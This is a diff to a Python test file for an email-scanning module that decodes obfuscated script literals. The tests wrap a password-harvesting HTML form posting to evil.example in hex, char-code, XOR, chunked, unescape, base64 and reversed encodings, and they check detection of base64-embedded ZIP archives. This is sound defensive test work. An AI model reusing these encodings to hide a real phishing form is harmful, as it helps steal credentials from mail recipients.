@@ -10,7 +10,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from firstsight.mail.inside.literals import MAX_OUT, MAX_PIECES, decoded
+from firstsight.mail.inside.literals import MAX_OUT, MAX_PIECES, decoded, files, packed, pieces
 
 FORM = '<form action="https://evil.example/x"><input type=password>'
 
@@ -85,6 +85,9 @@ def codes(shift: int = 0, mask: int = 0) -> str:
         f"[{codes(4711)}].map(n => String.fromCharCode(n - 4711))",
         f"[{codes(mask=90)}].map(n => String.fromCharCode(n ^ 90))",
         f"// don't\nx.innerHTML = `{WHOLE}`",
+        "s = '';" + "".join(f"s += '{WHOLE[at : at + 7]}';" for at in range(0, len(WHOLE), 7)) + "w(s)",
+        f"w('{WHOLE.encode().hex()}'.match(/../g).map(h => String.fromCharCode(parseInt(h, 16))).join(''))",
+        "w(unescape('" + "".join(f"~{ord(letter):02x}" for letter in WHOLE) + "'.replace(/~/g, '%')))",
     ],
 )
 def test_what_was_taken_apart_comes_out(script: str) -> None:
@@ -130,3 +133,32 @@ def test_any_script_is_read_within_bounds(script: str) -> None:
 def test_base64_of_any_text_with_an_address_comes_out(text: str) -> None:
     text = "https://a.example/ " + text.replace("%", "").replace("&", "")
     assert text in decoded(f"atob('{b64encode(text.encode()).decode()}')")
+
+
+@pytest.mark.parametrize(
+    ("script", "hidden"),
+    [
+        (f"w('{WHOLE}')", False),
+        (f"w('{WHOLE[:9]}' + '{WHOLE[9:]}')", False),
+        ("w('\\x3cform\\x3e and words that stand there as they are')", False),
+        ("w('" + "".join(f"\\x{ord(letter):02x}" for letter in WHOLE) + "')", True),
+        (f"w(atob('{PACKED}'))", True),
+        (f"[{codes(7)}]", True),
+        (f"w('{WHOLE[::-1]}')", True),
+    ],
+)
+def test_what_had_to_be_decoded_is_told_apart_from_what_stands_there(script: str, hidden: bool) -> None:
+    assert [piece.hidden for piece in pieces(script)] == [hidden]
+
+
+def test_an_archive_in_a_literal_is_a_file_and_a_picture_is_none() -> None:
+    archive = b"PK\x03\x04" + bytes(90)
+    picture = b"\x89PNG\r\n\x1a\n" + bytes(90)
+    assert files(f"a('{b64encode(archive).decode()}'); b('{b64encode(picture).decode()}')") == [archive]
+    assert files("a('UEsDBA==')") == []
+
+
+def test_long_literals_and_lists_of_numbers_are_packed_and_pictures_are_not() -> None:
+    assert packed(f"x('{'QUJD' * 100}')") == 400
+    assert packed(f"x('iVBORw0KGgo{'QUJD' * 100}'); y('a sentence of words, ' + '{'word ' * 90}')") == 0
+    assert packed(f"[{','.join(['200'] * 20)}]") == 79
